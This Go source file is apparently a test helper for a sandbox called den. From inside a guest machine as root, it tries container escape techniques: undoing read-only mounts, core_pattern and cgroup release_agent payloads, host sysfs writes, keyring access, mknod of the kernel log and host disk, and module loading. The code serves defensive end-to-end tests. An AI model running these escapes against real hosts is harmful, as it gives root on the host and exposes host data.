// Command escape tries, from inside a den machine and as its root, the
// ways out of a container that worked against privileged containers, for
// den's end-to-end tests (e2e_escape_test.go). It is built static and run
// in the guest through /den. Every attempt prints one line:
//
//	ATTEMPT what: done            the step worked (the test decides if that is bad)
//	ATTEMPT what: failed: reason  the step failed
//
// and may print FOUND lines with what it got hold of. Whether an escape
// worked is judged on the host, by a marker only a host-side success
// could make (a file the payload writes, a host value, a key in root's
// keyring, a line in the host's kernel log).
package main

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape guards|core_pattern|sysfs|release_agent|keyring|devices|module|mark|init|whoami ...")
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "mark": // a payload: mark PATH writes PATH (on the host, when it ran there)
		os.WriteFile(args[0], []byte("escaped\n"), 0o644)
	case "guards":
		guards(args[0])
	case "core_pattern":
		corePattern(args[0])
	case "sysfs":
		sysfs(args[0], args[1])
	case "release_agent":
		releaseAgent(args[0])
	case "keyring":
		keyring(args[0], args[1])
	case "devices":
		devices(args[0], args[1])
	case "module":
		module()
	case "init": // pid 1 of a container made inside a machine (nesting)
		sig := make(chan os.Signal, 1)
		signal.Notify(sig, unix.SIGPWR, unix.SIGTERM, unix.SIGINT)
		<-sig
	case "whoami": // what a process in that container sees
		host, _ := os.Hostname()
		uidMap, _ := os.ReadFile("/proc/self/uid_map")
		fmt.Printf("INNER pid %d hostname %s uid_map %s\n", os.Getpid(), host, strings.Join(strings.Fields(string(uidMap)), " "))
	default:
		fmt.Fprintln(os.Stderr, "unknown attempt", os.Args[1])
		os.Exit(2)
	}
}

func report(what string, err error) bool {
	if err != nil {
		fmt.Printf("ATTEMPT %s: failed: %v\n", what, err)
		return false
	}
	fmt.Printf("ATTEMPT %s: done\n", what)
	return true
}

// guards tries to undo or get around den's guards over the project
// folder at dir: den.hcl read-only over itself, .den/ hidden under an
// empty read-only folder. Whatever it reaches in .den is printed.
func guards(dir string) {
	hcl, state := filepath.Join(dir, "den.hcl"), filepath.Join(dir, ".den")
	report("umount den.hcl", unix.Unmount(hcl, 0))
	report("umount -l den.hcl", unix.Unmount(hcl, unix.MNT_DETACH))
	report("umount .den", unix.Unmount(state, 0))
	report("umount -l .den", unix.Unmount(state, unix.MNT_DETACH))
	report("remount den.hcl rw", unix.Mount("", hcl, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	report("remount .den rw", unix.Mount("", state, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	report("mount_setattr den.hcl rw", unix.MountSetattr(-1, hcl, 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	f, err := os.OpenFile(hcl, os.O_WRONLY|os.O_APPEND, 0)
	if report("open den.hcl for writing", err) {
		_, err = f.WriteString("# written by guest root\n")
		report("write den.hcl", err)
		f.Close()
	}
	// A bind of the project without the mounts in it would show .den.
	os.MkdirAll("/mnt/escape-bind", 0o755)
	if report("bind the project without its mounts", unix.Mount(dir, "/mnt/escape-bind", "", unix.MS_BIND, "")) {
		list(filepath.Join("/mnt/escape-bind", ".den"))
		unix.Unmount("/mnt/escape-bind", unix.MNT_DETACH)
	}
	fd, err := unix.OpenTree(unix.AT_FDCWD, dir, unix.OPEN_TREE_CLONE)
	if report("open_tree the project without its mounts", err) {
		if report("attach it", unix.MoveMount(fd, "", unix.AT_FDCWD, "/mnt/escape-bind", unix.MOVE_MOUNT_F_EMPTY_PATH)) {
			list(filepath.Join("/mnt/escape-bind", ".den"))
			unix.Unmount("/mnt/escape-bind", unix.MNT_DETACH)
		}
		unix.Close(fd)
	}
	// And what is left to see.
	list(state)
	if f, err := os.OpenFile(filepath.Join(state, "escape-marker"), os.O_WRONLY|os.O_CREATE, 0o644); report("create a file in .den", err) {
		f.Close()
	}
}

// list prints every file below dir with its content.
func list(dir string) {
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil || p == dir {
			return nil
		}
		b, _ := os.ReadFile(p)
		fmt.Printf("FOUND %s: %q\n", p, b)
		return nil
	})
}

// freshMount mounts a new filesystem of type fstype in a new folder.
func freshMount(fstype string, opts string) (string, bool) {
	dir, _ := os.MkdirTemp("", "escape-"+fstype+"-")
	return dir, report("mount a fresh "+fstype+" "+opts, unix.Mount(fstype, dir, fstype, 0, opts))
}

func writeFile(what, path, value string) bool {
	return report(what, os.WriteFile(path, []byte(value), 0o644))
}

// corePattern points the kernel's core_pattern at payload (a pipe runs it
// as the host's root) through a fresh proc mount and through /proc, then
// makes a process dump core.
func corePattern(payload string) {
	value := "|" + payload
	if dir, ok := freshMount("proc", ""); ok {
		writeFile("write core_pattern through a fresh proc", filepath.Join(dir, "sys/kernel/core_pattern"), value)
		unix.Unmount(dir, unix.MNT_DETACH)
	}
	if dir, ok := mountAt("/dev/.lxc/proc"); ok {
		writeFile("write core_pattern through "+dir, filepath.Join(dir, "sys/kernel/core_pattern"), value)
	}
	writeFile("write core_pattern through /proc", "/proc/sys/kernel/core_pattern", value)
	// A shell that kills itself with SIGSEGV dumps core (Go programs
	// catch the signal).
	err := exec.Command("/bin/sh", "-c", "ulimit -c unlimited; kill -SEGV $$").Run()
	fmt.Printf("ATTEMPT dump core: %v\n", err)
}

// mountAt reports whether dir (a mount den's nesting adds) is there.
func mountAt(dir string) (string, bool) {
	_, err := os.Stat(filepath.Join(dir, "self"))
	if err != nil {
		_, err = os.Stat(filepath.Join(dir, "kernel"))
	}
	return dir, err == nil
}

// sysfs writes value to knob (a path below /sys, host-global) through a
// fresh sysfs mount and through /sys.
func sysfs(knob, value string) {
	rel := strings.TrimPrefix(knob, "/sys/")
	if dir, ok := freshMount("sysfs", ""); ok {
		writeFile("write "+knob+" through a fresh sysfs", filepath.Join(dir, rel), value)
		unix.Unmount(dir, unix.MNT_DETACH)
	}
	if dir, ok := mountAt("/dev/.lxc/sys"); ok {
		writeFile("write "+knob+" through "+dir, filepath.Join(dir, rel), value)
	}
	writeFile("write "+knob+" through /sys", knob, value)
}

// releaseAgent sets a cgroup v1 hierarchy's release_agent to payload and
// empties a cgroup with notify_on_release, on a fresh cgroup mount of
// each controller and on the machine's own cgroup mounts.
func releaseAgent(payload string) {
	var roots []string
	for _, opts := range []string{"rdma", "memory", "pids", "none,name=escape"} {
		if dir, ok := freshMount("cgroup", opts); ok {
			roots = append(roots, dir)
		}
	}
	mounted, _ := filepath.Glob("/sys/fs/cgroup/*")
	roots = append(roots, mounted...)
	found := 0
	defer func() {
		if found == 0 {
			report(fmt.Sprintf("find a release_agent in %d cgroup mounts", len(roots)), errors.New("none visible (a cgroup namespace shows its own root, not the hierarchy's)"))
		}
	}()
	for _, root := range roots {
		if _, err := os.Stat(filepath.Join(root, "release_agent")); err != nil {
			continue
		}
		found++
		if !writeFile("set release_agent of "+root, filepath.Join(root, "release_agent"), payload) {
			continue
		}
		cg := filepath.Join(root, "escape")
		if !report("mkdir a cgroup in "+root, os.Mkdir(cg, 0o755)) {
			continue
		}
		writeFile("notify_on_release in "+root, filepath.Join(cg, "notify_on_release"), "1")
		cmd := exec.Command("/bin/sh", "-c", "echo $$ > "+filepath.Join(cg, "cgroup.procs"))
		report("empty the cgroup in "+root, cmd.Run())
		time.Sleep(200 * time.Millisecond)
		os.Remove(cg)
	}
}

// keyring looks for the key secret in root's user keyring and adds the
// key add there: in a machine whose root is the host's, that keyring is
// the host root's.
func keyring(secret, add string) {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", secret, 0)
	if report("find the host's key in root's user keyring", err) {
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
		if report("read it", err) {
			fmt.Printf("FOUND key %s: %q\n", secret, buf[:min(n, len(buf))])
		}
	}
	_, err = unix.AddKey("user", add, []byte("from the guest"), unix.KEY_SPEC_USER_KEYRING)
	report("add a key to root's user keyring", err)
	if b, err := os.ReadFile("/proc/keys"); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if strings.Contains(l, secret) {
				fmt.Printf("FOUND /proc/keys: %s\n", l)
			}
		}
	}
}

// devices makes device nodes of the kernel log (1:11) and of the host's
// disk (major:minor disk) and uses them: a line in the kernel log, the
// first block's digest.
func devices(marker, disk string) {
	kmsg := "/tmp/escape-kmsg"
	os.Remove(kmsg)
	if report("mknod kmsg", unix.Mknod(kmsg, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 11)))) {
		f, err := os.OpenFile(kmsg, os.O_WRONLY, 0)
		if report("open kmsg", err) {
			_, err = f.WriteString(marker + "\n")
			report("write kmsg", err)
			f.Close()
		}
	}
	maj, min, _ := strings.Cut(disk, ":")
	ma, _ := strconv.Atoi(maj)
	mi, _ := strconv.Atoi(min)
	dev := "/tmp/escape-disk"
	os.Remove(dev)
	if report("mknod the host's disk "+disk, unix.Mknod(dev, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(ma), uint32(mi))))) {
		f, err := os.Open(dev)
		if report("open the host's disk", err) {
			buf := make([]byte, 4096)
			n, err := f.Read(buf)
			if report("read the host's disk", err) {
				fmt.Printf("FOUND disk sha256 %x\n", sha256.Sum256(buf[:n]))
			}
			f.Close()
		}
	}
}

// module asks the kernel to load a module (the helper itself, which is not
// one): a kernel that gets as far as reading it (ENOEXEC and the like)
// took the request from a caller allowed to load modules.
func module() {
	f, err := os.Open("/proc/self/exe")
	if err != nil {
		report("open a module file", err)
		return
	}
	defer f.Close()
	err = unix.FinitModule(int(f.Fd()), "", 0)
	report("finit_module", err)
	fmt.Printf("ERRNO finit_module %d\n", errno(err))
	err = unix.InitModule([]byte("\x7fELF not a module"), "")
	report("init_module", err)
	fmt.Printf("ERRNO init_module %d\n", errno(err))
}

func errno(err error) int {
	if e, ok := err.(syscall.Errno); ok {
		return int(e)
	}
	return 0
}
